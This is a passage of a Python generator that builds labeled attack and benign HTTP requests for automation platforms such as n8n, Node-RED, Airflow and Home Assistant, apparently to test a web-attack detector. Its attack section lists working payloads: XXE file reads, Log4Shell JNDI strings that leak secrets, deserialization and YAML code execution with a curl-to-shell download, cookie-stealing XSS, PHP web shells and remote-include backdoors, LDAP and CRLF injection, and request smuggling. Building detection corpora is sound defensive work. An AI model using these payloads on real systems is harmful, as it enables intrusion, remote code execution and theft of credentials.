        '<!DOCTYPE data [<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"><!ENTITY % dtd SYSTEM "http://203.0.113.5/x.dtd">%dtd;]><data>&send;</data>',
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "expect://id">]><rss><channel><title>&e;</title></channel></rss>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM "http://203.0.113.5/x.dtd"><x>1</x>',
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file:///proc/self/environ">]><svg xmlns="http://www.w3.org/2000/svg"><text>&s;</text></svg>',
        '<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % a SYSTEM "jar:http://203.0.113.5/x.jar!/b"> %a;]><feed/>',
        '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY g SYSTEM "gopher://127.0.0.1:25/xHELO">]><m>&g;</m>',
    ]
    r = random.Random("attack-xxe")
    for i, p in enumerate(xxe, 1):
        host, path = r.choice([("n8n.acme.io", "/webhook/xml-order"), ("nodered.home.lan:1880", "/api/xml"),
                               ("n8n.acme.io", "/webhook/rss-import"), ("airflow.internal.acme.io", "/api/v1/importer/xml")])
        out.append(mk("%s/xxe/xml-node-%03d" % (SET, i), "xxe", "detect", "POST", host, path, body=p,
                      ctype=r.choice(["application/xml", "text/xml", "application/soap+xml"]), rng=r))

    # ---- Java: Log4Shell in headers, deserialization ------------------------
    r = random.Random("attack-java")
    l4 = ["${jndi:ldap://203.0.113.5:1389/a}", "${${lower:j}ndi:${lower:l}dap://x.oast.example/a}",
          "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/o}", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.oast.example}",
          "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.5/x}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.example/}",
          "${${upper:j}ndi:ldaps://203.0.113.5/z}", "${jndi:ldap://127.0.0.1#evil.example:1389/a}"]
    hdrs = ["User-Agent", "X-Api-Version", "X-Forwarded-For", "Referer", "X-N8N-Signature", "Authorization"]
    for i, p in enumerate(l4, 1):
        h = r.choice(hdrs)
        a = r.choice(SINKS_DATA)(r, "event", "ping")
        if h == "User-Agent":
            out.append(mk("%s/java/log4shell-header-%03d" % (SET, i), "java", "detect", a["method"], a["host"], a["path"],
                          params=a.get("params"), body=a.get("body"), ctype=a.get("ctype"), ua=p))
        else:
            out.append(mk("%s/java/log4shell-header-%03d" % (SET, i), "java", "detect", a["method"], a["host"], a["path"],
                          params=a.get("params"), body=a.get("body"), ctype=a.get("ctype"), extra=[[h, p]], rng=r))
    javap = [
        "${jndi:ldap://203.0.113.5/Exploit}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGU=",
        '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.5:1389/Exploit","autoCommit":true}]',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.5:1099/Exploit","autoCommit":true}',
        '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":"http://203.0.113.5/x.xml"}',
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
    ]
    out += build_attacks("java", "payload", javap, ["payload", "data", "config", "state", "value"],
                         sinks=[s_airflow, s_temporal, s_n8n_json, s_powerauto, s_make, s_retool])

    # ---- generic: prototype pollution, deserialization ----------------------
    r = random.Random("attack-generic")
    gen_bodies = [
        ("application/json", '{"__proto__":{"isAdmin":true},"name":"x"}'),
        ("application/json", '{"settings":{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}'),
        ("application/json", '{"constructor":{"prototype":{"polluted":"yes","execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}'),
        ("application/json", '{"data":{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}}'),
        ("application/json", '{"a":{"\\u005f\\u005fproto\\u005f\\u005f":{"admin":1}}}'),
        ("application/json", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
        ("application/x-yaml", "automation:\n  - alias: x\n    action: !!python/object/apply:os.system ['curl http://203.0.113.5/x | sh']\n"),
        ("application/x-yaml", "config: !!python/object/new:subprocess.Popen [['id']]\n"),
        ("application/yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.5/x.jar\"]]]]\n"),
        ("application/x-yaml", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n"),
        ("application/json", '{"state":"gASVLAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBFjdXJsIDIwMy4wLjExMy41lIWUUpQu","encoding":"pickle"}'),
        ("application/json", '{"task":"cos\\nsystem\\n(S\'id\'\\ntR.","serializer":"pickle"}'),
        ("application/x-www-form-urlencoded", "__proto__[isAdmin]=true&name=x"),
        ("application/x-www-form-urlencoded", "constructor[prototype][role]=owner&email=a%40b.io"),
        ("application/json", '{"payload":"O:8:\\"stdClass\\":1:{s:4:\\"cmd\\";s:2:\\"id\\";}"}'),
    ]
    for i, (ct, b) in enumerate(gen_bodies, 1):
        host, path = r.choice([("n8n.acme.io", "/webhook/" + uuid(r)), ("nodered.home.lan:1880", "/api/config"),
                               ("ha.home.example.com:8123", "/api/webhook/" + alnum(r, 20)),
                               ("prefect.acme.io", "/api/flow_runs/" + uuid(r) + "/set_state"),
                               ("appsmith.acme.io", "/api/v1/users/me")])
        out.append(mk("%s/generic/pollution-deser-%03d" % (SET, i), "generic", "detect", "POST", host, path, body=b, ctype=ct, rng=r))
    for i, qs in enumerate(["__proto__[admin]=1", "constructor.prototype.isAdmin=true&x=1", "a[__proto__][polluted]=1"], 1):
        out.append(mk("%s/generic/pollution-query-%03d" % (SET, i), "generic", "detect", "GET", "n8n.acme.io", "/webhook/settings",
                      raw_query=qs, rng=r))

    # ---- XSS ---------------------------------------------------------------
    xss = [
        "<script>fetch('https://203.0.113.5/c?'+document.cookie)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=eval(atob('YWxlcnQoMSk='))>",
        "javascript:alert(localStorage.getItem('n8n-auth'))",
        "\"><iframe src=javascript:alert(1)>",
        "<details open ontoggle=fetch('//203.0.113.5/'+document.cookie)>",
        "<a href=\"jAvAsCrIpT:alert(1)\">open dashboard</a>",
        "<body onpageshow=alert(1)>",
        "'-alert(1)-'",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(document.cookie)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<video><source onerror=\"javascript:alert(1)\">",
    ]
    out += build_attacks("xss", "stored-field", xss, ["label", "message", "name", "title", "description", "answer"])

    # ---- CRLF --------------------------------------------------------------
    crlf = [
        "Your order shipped\r\nBcc: victims@list.example",
        "Welcome!\r\nContent-Type: text/html\r\n\r\n<h1>phish</h1>",
        "kim@example.org\r\nCc: all-staff@acme.io",
        "kim@example.org%0d%0aBcc:%20spam@evil.example",
        "Report\nX-Mailer: evil\nBcc: a@evil.example",
    ]
    out += build_attacks("crlf", "email-node", crlf, ["subject", "to", "replyTo", "fromName"],
                         sinks=[s_n8n_json, s_zapier_form, s_make, s_jotform, s_powerauto])
    r = random.Random("attack-crlf-redirect")
    for i, qs in enumerate(["redirect=%2Fdone%0d%0aSet-Cookie%3A%20n8n-auth%3Devil",
                            "next=/ok%0D%0ALocation:%20https://evil.example/",
                            "return_to=%2Fhome%0aX-Injected%3A%201",
                            "state=abc%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
                            "lang=en%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"], 1):
        out.append(mk("%s/crlf/redirect-%03d" % (SET, i), "crlf", "detect", "GET",
                      r.choice(["n8n.acme.io", "retool.acme.io", "ha.home.example.com:8123"]),
                      r.choice(["/rest/oauth2-credential/callback", "/auth/callback", "/webhook/form-done"]), raw_query=qs, rng=r, browser=True))

    # ---- PHP, RFI, LDAP -----------------------------------------------------
    php = [
        "php://filter/convert.base64-encode/resource=/etc/passwd",
        "<?php system($_GET['c']); ?>",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "expect://id",
        "phar:///tmp/uploads/avatar.jpg/x",
        "<?=`$_POST[x]`?>",
    ]
    out += build_attacks("php", "file-param", php, ["template", "file", "attachment", "content", "page"])
    rfi = [
        "http://203.0.113.5/shell.txt?",
        "https://evil.example/inc/backdoor.php",
        "ftp://203.0.113.5/pub/x.php",
        "\\\\203.0.113.5\\share\\x.php",
        "http://203.0.113.5/c99.txt%00",
    ]
    r = random.Random("attack-rfi")
    for i, p in enumerate(rfi, 1):
        out.append(mk("%s/rfi/include-%03d" % (SET, i), "rfi", "detect", "GET",
                      r.choice(["n8n.acme.io", "nodered.home.lan:1880", "budibase.acme.io"]),
                      r.choice(["/webhook/render", "/ui/page.php", "/api/template"]),
                      raw_query=r.choice(["template", "page", "include", "file"]) + "=" + (p if "%" in p else quote(p, safe="")), rng=r))
    ldap = [
        "*)(uid=*))(|(uid=*",
        "admin)(&(password=*))",
        "*)(|(objectClass=*)",
        "x*)(memberOf=cn=admins,ou=groups,dc=acme,dc=io))(|(cn=*",
        "kim)(|(userPassword=*)",
    ]
    out += build_attacks("ldapi", "ldap-node", ldap, ["username", "uid", "group", "search"],
                         sinks=[s_n8n_get, s_n8n_json, s_retool, s_zapier_form])

    # ---- protocol ------------------------------------------------------------
    r = random.Random("attack-protocol")
    b = '{"event":"ping"}'
    p1 = mk("%s/protocol/smuggle-001" % SET, "protocol", "detect", "POST", "n8n.acme.io", "/webhook/ping", body=b, rng=r)
    p1["headers"].append(["Transfer-Encoding", "chunked"])
    out.append(p1)
    p2 = mk("%s/protocol/smuggle-002" % SET, "protocol", "detect", "POST", "n8n.acme.io", "/webhook/ping", body=b, rng=r)
    p2["headers"].append(["Content-Length", "4"])
    out.append(p2)
    p3 = mk("%s/protocol/smuggle-003" % SET, "protocol", "detect", "POST", "nodered.home.lan:1880", "/api/ingest",
            body="0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", ctype="application/json", rng=r)
    p3["headers"].append(["Transfer-Encoding", " chunked"])
    out.append(p3)
    out.append(mk("%s/protocol/header-injection-004" % SET, "protocol", "detect", "GET", "n8n.acme.io", "/healthz", rng=r,
                  extra=[["X-Forwarded-Host", "evil.example\r\nX-Injected: 1"]]))
    out.append(mk("%s/protocol/request-line-005" % SET, "protocol", "detect", "GET", "ha.home.example.com:8123",
                  "/api/states HTTP/1.1\r\nHost: internal\r\n\r\nGET /admin", rng=r))
    return out


# ---------------------------------------------------------------------------
# Benign
# ---------------------------------------------------------------------------

BENIGN = []


def benign_gen(name, n):
    def deco(fn):
        BENIGN.append((name, n, fn))
        return fn
    return deco


@benign_gen("n8n_lead_webhook", 20)
def b_n8n_lead(r):
    f, l, e = person(r)
    msg = r.choice(["Hi, we'd like a demo for 5-10 users — can you do Thu/Fri?",
                    "Interested in the 'Pro' plan; what's the price per seat (incl. VAT)?",
                    "Our CTO asked: does it support SSO (SAML 2.0) & SCIM?",
                    "Please call me after 3pm. Phone: +353 (0)87 123 4567",
                    "We use Salesforce + HubSpot; need a 2-way sync. Budget < $500/mo.",
                    "Re: invoice #INV-2024-0381 -- amount was wrong (should be 1,240.00)",
                    "Can I select which fields get exported? e.g. name, email & order total",
                    "Where do I drop the CSV? The 'upload' button does nothing on Safari 18.",
                    "Delete my account & all data please (GDPR Art. 17).",
                    "100% happy with the service :) 5/5"])
    return dict(method="POST", host="n8n.acme.io", path="/webhook/" + uuid(r),
                body=js({"firstName": f, "lastName": l, "email": e, "company": r.choice(["Acme & Sons", "O'Reilly Media", "Müller GmbH", "AT&T", "Ben & Jerry's"]),
                         "message": msg, "utm": {"source": "google", "campaign": "q4-automation"}, "consent": True}))


@benign_gen("n8n_rest_api", 16)
def b_n8n_rest(r):
    c = r.randint(0, 5)
    if c == 0:
        return dict(method="GET", host="n8n.acme.io", path="/rest/executions",
                    params={"filter": js({"workflowId": str(r.randint(1, 300)), "status": r.choice(["success", "error", "waiting"])}),
                            "limit": "20", "lastId": str(r.randint(1000, 90000))}, browser=True)
    if c == 1:
        return dict(method="GET", host="n8n.acme.io", path="/rest/workflows", params={"filter": js({"tags": ["crm", "sales"]}), "sortBy": "updatedAt:desc"}, browser=True)
    if c == 2:
        return dict(method="GET", host="n8n.acme.io", path="/api/v1/workflows/%d" % r.randint(1, 400), extra=[["X-N8N-API-KEY", "n8n_api_" + alnum(r, 32)]])
    if c == 3:
        return dict(method="PATCH", host="n8n.acme.io", path="/rest/workflows/%d" % r.randint(1, 400), body=js({"active": r.choice([True, False]), "versionId": uuid(r)}), browser=True)
    if c == 4:
        return dict(method="GET", host="n8n.acme.io", path="/rest/node-parameter-options",
                    params={"nodeTypeAndVersion": js({"name": "n8n-nodes-base.googleSheets", "version": 4}),
                            "path": "parameters.sheetName", "methodName": "getSheets",
                            "currentNodeParameters": js({"documentId": {"__rl": True, "value": alnum(r, 44), "mode": "list"}})}, browser=True)
    return dict(method="GET", host="n8n.acme.io", path="/rest/executions/%d" % r.randint(1000, 90000), browser=True)


@benign_gen("n8n_expression_params", 15)
def b_n8n_expr(r):
    expr = r.choice(["={{ $json.email.toLowerCase() }}", "={{ $('Webhook').item.json.body.firstName }} {{ $json.lastName }}",
                     "={{ $now.minus({days: 7}).toISO() }}", "={{ $json.items.length > 0 ? 'has items' : 'empty' }}",
                     "={{ $json.amount * 1.23 }}", "={{ DateTime.fromISO($json.created).toFormat('yyyy-LL-dd') }}",
                     "={{ $input.first().json.status === 'paid' }}", "={{ $json[\"Order ID\"] }}"])
    return dict(method="POST", host="n8n.acme.io", path="/rest/workflows/%d/run" % r.randint(1, 300),
                body=js({"runData": {}, "startNodes": [{"name": "Set", "sourceData": None}],
                         "workflowData": {"nodes": [{"name": "Set", "type": "n8n-nodes-base.set", "typeVersion": 3,
                                                     "parameters": {"values": {"string": [{"name": "out", "value": expr}]}}}]}}), browser=True)


@benign_gen("nodered", 20)
def b_nodered(r):
    c = r.randint(0, 4)
    if c == 0:
        return dict(method="POST", host="nodered.home.lan:1880", path="/api/sensor",
                    body=js({"device": "esp32-" + hexid(r, 6), "temp": round(r.uniform(15, 28), 2), "hum": r.randint(30, 70),
                             "topic": r.choice(["home/livingroom/climate", "zigbee2mqtt/+/set", "home/+/temperature", "tele/tasmota_%s/SENSOR" % hexid(r, 6).upper()])}))
    if c == 1:
        return dict(method="POST", host="nodered.home.lan:1880", path="/inject/" + hexid(r, 16), body="", browser=True)
    if c == 2:
        return dict(method="GET", host="nodered.home.lan:1880", path="/flows", extra=[["Node-RED-API-Version", "v2"]], browser=True)
    if c == 3:
        return dict(method="GET", host="nodered.home.lan:1880", path="/ui/", params={"socketid": alnum(r, 20)}, browser=True)
    jsonata = r.choice(["$sum(payload.readings.value) / $count(payload.readings)", "payload.{\"name\": name, \"on\": state = 'ON'}",
                        "$exists(payload.battery) and payload.battery < 20", "$string(payload.temp) & '°C'",
                        "payload[type='motion' and value=true].room", "$map(payload.items, function($v){ $v.price * $v.qty })"])
    return dict(method="POST", host="nodered.home.lan:1880", path="/api/transform",
                body=js({"expression": jsonata, "lang": "jsonata"}))


@benign_gen("zapier_catch", 15)
def b_zapier(r):
    f, l, e = person(r)
    return dict(method="POST", host="hooks.zapier-relay.acme.io", path="/hooks/catch/%d/%s/" % (r.randint(100000, 9999999), alnum(r, 6).lower()),
                body=q({"first_name": f, "last_name": l, "email": e, "phone": "+1 (555) %03d-%04d" % (r.randint(100, 999), r.randint(0, 9999)),
                        "notes": r.choice(["Referred by Sam -- said 'ask for Jo'", "Needs quote for 2x units; ship to PO Box 12", "Call back @ 9:30am", "Prefers email; no calls 1-2pm"]),
                        "amount": "%.2f" % r.uniform(10, 5000)}), ctype="application/x-www-form-urlencoded")


@benign_gen("make_hook", 15)
def b_make(r):
    return dict(method="POST", host="hook.eu1.make.com", path="/" + alnum(r, 32).lower(),
                body=js({"order": {"id": r.randint(1000, 99999), "total": round(r.uniform(5, 900), 2), "currency": "EUR",
                                   "lines": [{"sku": "SKU-%d" % r.randint(100, 999), "name": r.choice(["T-shirt (L)", "Mug 'Best Dad'", "Poster 50x70", "USB-C cable 2m"]), "qty": r.randint(1, 4)}]},
                         "customer": {"name": " ".join(person(r)[:2])}, "mapping": "{{1.order.id}} - {{formatDate(now; \"YYYY-MM-DD\")}}"}))


@benign_gen("airflow_api", 20)
def b_airflow(r):
    c = r.randint(0, 4)
    dag = r.choice(["etl_daily", "sync_crm", "export_reports", "ml_feature_refresh", "dbt_run"])
    if c == 0:
        return dict(method="GET", host="airflow.internal.acme.io", path="/api/v1/dags/%s/dagRuns" % dag,
                    params={"execution_date_gte": "2024-11-01T00:00:00+00:00", "order_by": "-execution_date", "limit": "25", "state": "failed"}, browser=True)
    if c == 1:
        return dict(method="POST", host="airflow.internal.acme.io", path="/api/v1/dags/%s/dagRuns" % dag,
                    body=js({"dag_run_id": "manual__2024-11-%02dT09:00:00" % r.randint(1, 28), "logical_date": "2024-11-%02dT09:00:00Z" % r.randint(1, 28),
                             "conf": r.choice([{"date": "{{ ds }}", "full_refresh": False}, {"tables": ["orders", "order_items"], "where": "updated_at >= '2024-11-01'"},
                                               {"output": "s3://acme-reports/{{ ds_nodash }}/report.csv"}, {"partition": "dt={{ macros.ds_add(ds, -1) }}"}])}))
    if c == 2:
        return dict(method="GET", host="airflow.internal.acme.io", path="/api/v1/dags/%s/dagRuns/scheduled__2024-11-%02dT00:00:00+00:00/taskInstances/load_orders/logs/1" % (dag, r.randint(1, 28)),
                    params={"full_content": "true"}, browser=True)
    if c == 3:
        return dict(method="PATCH", host="airflow.internal.acme.io", path="/api/v1/dags/%s" % dag, params={"update_mask": "is_paused"},
                    body=js({"is_paused": r.choice([True, False])}), browser=True)
    return dict(method="POST", host="airflow.internal.acme.io", path="/api/v1/variables",
                body=js({"key": r.choice(["slack_channel", "cron_override", "report_recipients"]), "value": r.choice(["#data-alerts", "0 6 * * 1-5", "ops@acme.io;cfo@acme.io"])}))


@benign_gen("prefect_api", 15)
def b_prefect(r):
    c = r.randint(0, 2)
    if c == 0:
        return dict(method="POST", host="prefect.acme.io", path="/api/flow_runs/filter",
                    body=js({"flow_runs": {"state": {"type": {"any_": ["COMPLETED", "FAILED", "CRASHED"]}},
                                           "start_time": {"after_": "2024-11-01T00:00:00Z"}}, "sort": "START_TIME_DESC", "limit": 50, "offset": 0}))
    if c == 1:
        return dict(method="POST", host="prefect.acme.io", path="/api/deployments/%s/create_flow_run" % uuid(r),
                    body=js({"parameters": {"start_date": "2024-11-01", "end_date": "2024-11-30", "sources": ["stripe", "shopify"], "query": "status:paid AND amount>100"},
                             "tags": ["manual", "backfill"], "idempotency_key": uuid(r)}))
    return dict(method="POST", host="prefect.acme.io", path="/api/deployments/%s/schedules" % uuid(r),
                body=js([{"schedule": {"cron": r.choice(["*/15 * * * *", "0 0 * * 1-5", "0 9 1 * *", "30 2 * * 0"]), "timezone": "Europe/Dublin", "day_or": True}, "active": True}]))


@benign_gen("temporal_visibility", 15)
def b_temporal(r):
    qry = r.choice(["WorkflowType='ProcessOrder' AND ExecutionStatus='Running'",
                    "WorkflowId STARTS_WITH 'order-' AND StartTime > '2024-11-01T00:00:00Z'",
                    "ExecutionStatus='Failed' OR ExecutionStatus='TimedOut'",
                    "CustomerId = 'cus_%s' AND CloseTime BETWEEN '2024-11-01T00:00:00Z' AND '2024-11-30T23:59:59Z'" % alnum(r, 10),
                    "WorkflowType IN ('SyncInventory', 'ReindexSearch') ORDER BY StartTime DESC",
                    "TaskQueue='payments' AND ExecutionStatus!='Completed'"])
    return dict(method="GET", host="temporal.acme.io", path="/api/v1/namespaces/default/workflows", params={"query": qry, "pageSize": "20"}, browser=True)


@benign_gen("retool_appsmith", 20)
def b_lowcode(r):
    c = r.randint(0, 3)
    f, l, e = person(r)
    if c == 0:
        return dict(method="POST", host="retool.acme.io", path="/api/public/%s/query" % uuid(r), params={"queryName": r.choice(["getCustomer", "searchOrders", "updateTicket"])},
                    body=js({"userParams": {"queryParams": {"0": l, "1": r.choice(["open", "pending", "closed"]), "length": 2}},
                             "environment": "production", "frontendVersion": "1"}), browser=True)
    if c == 1:
        return dict(method="POST", host="appsmith.acme.io", path="/api/v1/actions/execute",
                    body=js({"actionId": hexid(r), "viewMode": True, "params": {"Input1.text": r.choice([l, "%" + l[:3] + "%", "ACME-%d" % r.randint(1, 999)]),
                                                                                   "Table1.pageNo": r.randint(1, 5), "Select1.selectedOptionValue": "EMEA"}}),
                    extra=[["X-Requested-By", "Appsmith"]], browser=True)
    if c == 2:
        return dict(method="PUT", host="appsmith.acme.io", path="/api/v1/actions/" + hexid(r),
                    body=js({"name": "getOrders", "actionConfiguration": {"path": "/orders", "queryParameters": [{"key": "status", "value": "{{ Select1.selectedOptionValue }}"},
                                                                                                                {"key": "q", "value": "{{ Input1.text.trim() }}"}]},
                             "dynamicBindingPathList": [{"key": "queryParameters[0].value"}]}), browser=True)
    return dict(method="GET", host="retool.acme.io", path="/api/pages/uuids/%s" % uuid(r), params={"mode": "view", "releaseVersion": "latest"}, browser=True)


@benign_gen("budibase", 15)
def b_budibase(r):
    f, l, e = person(r)
    return dict(method="POST", host="budibase.acme.io", path="/api/ta_%s/search" % hexid(r, 32),
                body=js({"query": {"string": {"last_name": l}, "range": {"created": {"low": "2024-01-01", "high": "2024-12-31"}}, "equal": {"status": "active"}},
                         "sort": "created", "sortOrder": "descending", "limit": 25, "bookmark": None}),
                extra=[["x-budibase-app-id", "app_" + hexid(r, 32)]], browser=True)


HA_TEMPLATES = [
    "{{ states('sensor.living_room_temperature') | float(0) | round(1) }} °C",
    "{% if is_state('sun.sun', 'below_horizon') %}dark{% else %}light{% endif %}",
    "{{ state_attr('climate.hallway', 'current_temperature') }}",
    "{{ states.light | selectattr('state','eq','on') | map(attribute='entity_id') | list | count }} lights on",
    "{{ (as_timestamp(now()) - as_timestamp(states.binary_sensor.front_door.last_changed)) | int // 60 }} min ago",
    "{% for s in states.sensor if 'battery' in s.entity_id and s.state|int(100) < 20 %}{{ s.name }}, {% endfor %}",
    "{{ now().strftime('%H:%M') }}",
    "{{ iif(is_state('person.anna','home'), 'Anna is home', 'Anna is away') }}",
    "{{ expand('group.downstairs') | map(attribute='name') | join(', ') }}",
    "{{ trigger.to_state.attributes.friendly_name }} changed to {{ trigger.to_state.state }}",
    "{{ (states('sensor.energy_today') | float * 0.32) | round(2) }} EUR",
    "{{ relative_time(states.sensor.last_boot.last_changed) }}",
]


@benign_gen("homeassistant", 35)
def b_ha(r):
    c = r.randint(0, 6)
    auth = [["Authorization", "Bearer " + alnum(r, 40)]]
    if c == 0:
        return dict(method="POST", host="ha.home.example.com:8123", path="/api/template", body=js({"template": r.choice(HA_TEMPLATES)}), extra=auth)
    if c == 1:
        dom, svc, data = r.choice([("light", "turn_on", {"entity_id": "light.kitchen", "brightness_pct": r.randint(10, 100), "color_temp_kelvin": 3000}),
                                   ("climate", "set_temperature", {"entity_id": "climate.hallway", "temperature": 21.5}),
                                   ("notify", "mobile_app_pixel_8", {"message": "Washing machine done ✅ ({{ states('sensor.washer_energy') }} kWh)", "title": "Laundry"}),
                                   ("script", "turn_on", {"entity_id": "script.goodnight"}),
                                   ("tts", "speak", {"entity_id": "tts.piper", "message": "Rubbish bins go out tonight — don't forget!"}),
                                   ("input_text", "set_value", {"entity_id": "input_text.note", "value": "Buy milk & eggs; call Mum @ 6"})])
        return dict(method="POST", host="ha.home.example.com:8123", path="/api/services/%s/%s" % (dom, svc), body=js(data), extra=auth)
    if c == 2:
        return dict(method="GET", host="ha.home.example.com:8123", path="/api/history/period/2024-11-%02dT00:00:00+00:00" % r.randint(1, 28),
                    params={"filter_entity_id": "sensor.outdoor_temperature,sensor.outdoor_humidity", "minimal_response": "", "no_attributes": ""}, extra=auth)
    if c == 3:
        aut = {"id": str(r.randint(10 ** 12, 10 ** 13)), "alias": r.choice(["Hallway light at sunset", "Notify when door left open", "Turn off heating when window open"]),
               "description": "", "mode": "single",
               "triggers": [{"trigger": "state", "entity_id": "binary_sensor.front_door", "to": "on", "for": {"minutes": 5}}],
               "conditions": [{"condition": "template", "value_template": "{{ is_state('alarm_control_panel.home', 'disarmed') and now().hour >= 7 }}"}],
               "actions": [{"action": "notify.mobile_app_pixel_8", "data": {"message": "{{ trigger.to_state.name }} open for 5 min", "data": {"tag": "door"}}}]}
        return dict(method="POST", host="ha.home.example.com:8123", path="/api/config/automation/config/" + aut["id"], body=js(aut), extra=auth, browser=True)
    if c == 4:
        return dict(method="GET", host="ha.home.example.com:8123", path="/api/states/" + r.choice(["sensor.living_room_temperature", "sun.sun", "person.anna", "weather.forecast_home"]), extra=auth)
    if c == 5:
        return dict(method="POST", host="ha.home.example.com:8123", path="/api/webhook/" + alnum(r, 20),
                    body=js({"latitude": round(r.uniform(51, 54), 5), "longitude": round(r.uniform(-10, -6), 5), "accuracy": r.randint(5, 60), "battery": r.randint(5, 100), "trigger": "Significant Location Change"}))
    return dict(method="GET", host="ha.home.example.com:8123", path="/api/logbook/2024-11-%02dT00:00:00Z" % r.randint(1, 28),
                params={"entity": "binary_sensor.front_door", "end_time": "2024-11-30T23:59:59Z"}, extra=auth)


@benign_gen("ifttt", 10)
def b_ifttt(r):
    return dict(method="POST", host="n8n.acme.io", path="/webhook/ifttt/" + r.choice(["door_open", "rain_alert", "new_tweet", "left_home"]),
                body=js({"value1": r.choice(["It's raining in Dublin (12°C)", "Front door opened @ 07:42", "New post: \"5 tips for n8n\" https://blog.acme.io/n8n-tips?utm_source=ifttt"]),
                         "value2": r.choice(["home", "work", ""]), "value3": "OccurredAt: November %d, 2024 at 07:42AM" % r.randint(1, 28)}))


POWER_EXPR = ["@{triggerBody()?['email']}", "@{concat(triggerBody()?['firstName'], ' ', triggerBody()?['lastName'])}",
              "@equals(triggerOutputs()?['body/Status'], 'Approved')", "@{formatDateTime(utcNow(), 'yyyy-MM-dd')}",
              "@{items('Apply_to_each')?['ID']}", "@{body('Get_items')?['value']}", "@{if(greater(variables('total'), 1000), 'manager', 'auto')}",
              "@{outputs('Compose')?['body']?['name']}", "@not(empty(triggerBody()?['attachments']))"]


@benign_gen("power_automate", 15)
def b_power(r):
    c = r.randint(0, 1)
    if c == 0:
        f, l, e = person(r)
        return dict(method="POST", host="prod-%02d.westeurope.logic.acme-flows.net" % r.randint(1, 40),
                    path="/workflows/%s/triggers/manual/paths/invoke" % hexid(r, 32),
                    params={"api-version": "2016-06-01", "sp": "/triggers/manual/run", "sv": "1.0", "sig": alnum(r, 43)},
                    body=js({"firstName": f, "lastName": l, "email": e, "requestType": r.choice(["Leave request", "Expense > €500", "New laptop"])}))
    return dict(method="PUT", host="flows.acme.io", path="/providers/Microsoft.ProcessSimple/environments/Default-%s/flows/%s" % (uuid(r), uuid(r)),
                params={"api-version": "2016-11-01"},
                body=js({"properties": {"displayName": "Approve expenses", "definition": {"actions": {
                    "Condition": {"type": "If", "expression": {"and": [{"greater": ["@triggerBody()?['amount']", 500]}]},
                                  "actions": {"Send_email": {"type": "OpenApiConnection", "inputs": {"parameters": {
                                      "emailMessage/To": r.choice(POWER_EXPR), "emailMessage/Subject": "Expense from " + r.choice(POWER_EXPR),
                                      "emailMessage/Body": "<p>Hi,</p><p>Please review: " + r.choice(POWER_EXPR) + "</p>"}}}}}}}}}), browser=True)


FILTERS = [("jmespath", "locations[?state == 'WA'].name | sort(@) | {WashingtonCities: join(', ', @)}"),
           ("jmespath", "reservations[*].instances[?state.name=='running'].instanceId[]"),
           ("jmespath", "people[?age > `20`].[name, age]"),
           ("jq", ".items[] | select(.status == \"active\") | {id, name}"),
           ("jq", "[.[] | {user: .user.login, title}] | sort_by(.title)"),
           ("jq", ".data | map(select(.price > 10 and .stock != null)) | length"),
           ("jq", "to_entries | map(\"\\(.key)=\\(.value)\") | join(\"&\")"),
           ("jsonata", "Account.Order.Product[Price > 30].{\"sku\": SKU, \"total\": Price * Quantity}"),
           ("jsonata", "$sort(orders, function($l, $r) { $l.date > $r.date })"),
           ("jsonata", "$count(events[type = 'login' and $contains(ua, 'Mobile')])"),
           ("jsonpath", "$.store.book[?(@.price < 10)].title"),
           ("jsonpath", "$..author")]


@benign_gen("filters", 20)
def b_filters(r):
    lang, expr = r.choice(FILTERS)
    if r.random() < 0.5:
        return dict(method="GET", host="n8n.acme.io", path="/webhook/inspect", params={"lang": lang, "expr": expr}, browser=True)
    return dict(method="POST", host="nodered.home.lan:1880", path="/api/transform",
                body=js({"lang": lang, "expression": expr, "sample": {"items": [{"id": 1, "status": "active"}]}}))


NOTIFY_TEMPLATES = [
    "Hi {{ customer.first_name | capitalize }}, your order #{{ order.number }} has shipped! Track it here: {{ order.tracking_url }}",
